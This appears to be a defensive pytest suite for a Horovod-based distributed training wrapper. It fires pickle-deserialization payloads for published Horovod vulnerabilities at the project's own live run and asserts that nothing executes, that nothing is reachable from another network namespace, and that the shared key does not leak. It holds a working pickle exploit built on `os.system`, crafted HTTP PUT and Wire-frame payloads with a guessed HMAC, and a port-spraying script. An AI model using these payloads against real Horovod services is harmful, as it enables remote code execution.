"""The published attack on Horovod, fired at a live run: pickles for whoever listens, from this host and from another network.

CVE-2024-10190 and CVE-2026-31234 say that Horovod unpickles what reaches its rendezvous and its services. Root is needed to
make another network: two ends of a cable (veth), one of them in a namespace of its own; see SECURITY.md.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import hmac
import json
import os
import pickle
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest
from pyspark.sql import SparkSession

from iomt_ids.distributed import rendezvous
from iomt_ids.distributed.launch import HorovodLauncher
from iomt_ids.distributed.work import RankResult, Work
from tests.distributed.conftest import OtherNetwork

_SHOTS = 100
_KEY = bytes(range(200, 232))
# Connects, sends, hangs up: one shot an address and payload in turn, until so many are fired; tells how many connected.
_GUN = """
import base64, json, socket, sys
targets, payloads, shots = json.load(sys.stdin)
connected = 0
for shot in range(shots):
    host, port = targets[shot % len(targets)]
    try:
        with socket.create_connection((host, port), timeout=1) as line:
            connected += 1
            line.settimeout(0.2)
            line.sendall(base64.b64decode(payloads[shot // len(targets) % len(payloads)]))
            line.recv(100)
    except OSError:
        pass
print(connected)
"""


class _Exploit:
    """Harmless: whoever unpickles it writes a file."""

    def __init__(self, mark: Path) -> None:
        self._mark = mark

    def __reduce__(self) -> tuple:
        return os.system, (f"touch {self._mark}",)


def _payloads(mark: Path) -> list[bytes]:
    """What Horovod's own servers and services would have opened."""
    pickled = pickle.dumps(_Exploit(mark))
    requests = [
        f"PUT /{path} HTTP/1.1\r\nHost: h\r\nContent-Length: {len(pickled)}\r\n\r\n".encode() + pickled
        for path in ("runfunc/func", "worker_addresses/0", "rank_and_size/h/0", "global/0", "watch/0")
    ]
    # horovod.runner.common.util.network.Wire: digest, length, body; without the key, and with the one that is guessed first.
    wires = [
        digest + len(pickled).to_bytes(4, sys.byteorder) + pickled
        for digest in (bytes(32), hmac.new(b"", pickled, hashlib.sha256).digest())
    ]
    return [*requests, *wires, pickled]


@pytest.fixture(scope="module")
def live(spark: SparkSession, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[list[psutil.Process], list[RankResult]]]:
    """Two ranks that work until the tests are over; their processes and ours, and what became of them."""
    folder = tmp_path_factory.mktemp("live")
    spark.sparkContext.addPyFile(str(Path(__file__).with_name("faulty_ranks.py")))
    results: list[RankResult] = []
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(rendezvous.secrets, "token_bytes", lambda _: _KEY)
        work = Work("faulty_ranks:wait", {"processes": str(folder)})
        thread = threading.Thread(target=lambda: results.extend(HorovodLauncher(spark).run(work, 2)))
        thread.start()
        deadline = time.monotonic() + 120
        while sum(1 for _ in folder.iterdir()) < 2 and time.monotonic() < deadline:
            time.sleep(0.2)
        ranks = [psutil.Process(int(file.name)) for file in folder.iterdir()]
        yield [psutil.Process(), *ranks], results
        (folder / "enough").touch()
        thread.join()
    # Whatever was fired at them, they have done their work.
    assert [r.error for r in results] == ["", ""]


def _listening(processes: list[psutil.Process]) -> set[tuple[str, int]]:
    return {
        (c.laddr.ip.removeprefix("::ffff:"), c.laddr.port)
        for p in processes for c in p.net_connections("inet") if c.status == psutil.CONN_LISTEN
    }


def _fire(targets: list[tuple[str, int]], payloads: list[bytes], *inside: str) -> int:
    told = json.dumps([targets, [base64.b64encode(p).decode() for p in payloads], _SHOTS])
    done = subprocess.run([*inside, sys.executable, "-c", _GUN], input=told, capture_output=True, text=True, check=True)
    return int(done.stdout)


def test_the_gun_works(tmp_path: Path) -> None:
    # A service that does what the advisories describe is hit at the first shot.
    victim = (
        "import pickle, socket\ns = socket.create_server(('127.0.0.1', 0)); print(s.getsockname()[1], flush=True)\n"
        "c, _ = s.accept()\npickle.loads(c.recv(9999))\n"
    )
    with subprocess.Popen([sys.executable, "-c", victim], stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        port = int(process.stdout.readline())
        _fire([("127.0.0.1", port)], [pickle.dumps(_Exploit(tmp_path / "executed"))])
    assert (tmp_path / "executed").exists()


def test_a_hundred_shots_from_the_same_host_execute_nothing(live: tuple, tmp_path: Path) -> None:
    processes, results = live
    targets = sorted(_listening(processes))
    # The rendezvous and the relay of each rank (Gloo stops listening when all have met): all that listens is shot at.
    assert len(targets) >= 3 and {host for host, _ in targets} == {"127.0.0.1"}
    assert _fire(targets, _payloads(tmp_path / "executed")) > _SHOTS / 2
    assert not (tmp_path / "executed").exists()
    assert results == [], "the ranks have been ended by it"


def test_from_another_network_nothing_can_even_be_reached(
    live: tuple, elsewhere: OtherNetwork, tmp_path: Path
) -> None:
    processes, results = live
    ports = sorted({port for _, port in _listening(processes)})
    payloads = _payloads(tmp_path / "executed")
    # The cable works: somebody who listens at this host's end is reached.
    with socket.create_server((elsewhere.here, 0), backlog=200) as other:
        assert _fire([(elsewhere.here, other.getsockname()[1])], [b"hello"], *elsewhere.within) == _SHOTS
    assert _fire([(elsewhere.here, port) for port in ports], payloads, *elsewhere.within) == 0
    assert _fire([("127.0.0.1", port) for port in ports], payloads, *elsewhere.within) == 0
    assert not (tmp_path / "executed").exists()
    assert results == []


def test_the_key_is_in_no_command_line_no_environment_and_no_open_file_name(live: tuple) -> None:
    processes, _ = live
    family = [p for root in processes[:1] for p in (root, *root.children(recursive=True))]
    assert {p.pid for p in processes} <= {p.pid for p in family}
    for process in family:
        with contextlib.suppress(psutil.NoSuchProcess):
            seen = " ".join([*process.cmdline(), *process.environ().values(), *(f.path for f in process.open_files())])
            for form in (_KEY.hex(), _KEY.hex().upper(), repr(_KEY)[2:-1]):
                assert form not in seen, process


def test_an_order_does_not_show_its_key() -> None:
    from iomt_ids.distributed.barrier import Order

    order = Order(Work("m:f", {}), 2, "127.0.0.1", 1, _KEY, "horovod", 60)
    assert _KEY.hex() not in repr(order) and repr(_KEY) not in repr(order)
